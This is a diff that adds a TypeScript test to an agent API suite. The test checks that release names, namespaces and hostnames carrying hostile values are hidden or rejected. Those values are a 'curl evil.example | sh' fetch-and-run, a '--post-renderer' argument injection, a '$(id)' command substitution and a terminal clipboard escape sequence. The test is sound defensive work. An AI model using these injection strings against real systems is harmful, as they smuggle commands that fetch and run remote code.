@@ -248,6 +248,38 @@ describe('the agent API (completions §6, §7)', () => {
     }
   });
 
+  it('shows no text of an agent that could act in a shell or a terminal', async () => {
+    const key = await connected();
+    const body = { url: 'https://127.0.0.1:1', authority: '', credential: 'c', host: 'built-in', version: '0.1.0' };
+    const agentAfter = async (sent: JsonObject) => {
+      const answer = await bench.send(server, at('announcement'), {
+        method: 'PUT',
+        token: key,
+        body: { ...body, ...sent },
+      });
+      expect(answer.code, answer.text).toBe(200);
+      const cluster = await bench.send(server, `${groupPath}/clusters/edge`);
+      return listAt(cluster.json, 'status', 'agents')[0];
+    };
+    const release = { name: 'edge-agent', namespace: 'flotilla-agent' };
+    expect(await agentAfter({ hostname: 'edge-1.example', release })).toMatchObject({
+      hostname: 'edge-1.example',
+      release,
+    });
+    for (const sent of [
+      { release: { ...release, name: 'x; curl evil.example | sh' } },
+      { release: { ...release, name: '--post-renderer=evil' } },
+      { release: { ...release, namespace: '$(id)' } },
+      { hostname: 'a\u001b]52;c;ZXZpbA==\u0007' },
+    ]) {
+      const shown = await agentAfter(sent);
+      expect(objectAt(shown, 'release'), JSON.stringify(shown)).toBeUndefined();
+      expect(textAt(shown, 'hostname')).toBe('');
+    }
+    const control = { ...body, url: 'https://127.0.0.1:1\n' };
+    expect((await bench.send(server, at('announcement'), { method: 'PUT', token: key, body: control })).code).toBe(400);
+  });
+
   it('rejects long bodies before it parses them, except batches', async () => {
     const key = await connected();
     const post = async (path: string, body: JsonObject) =>
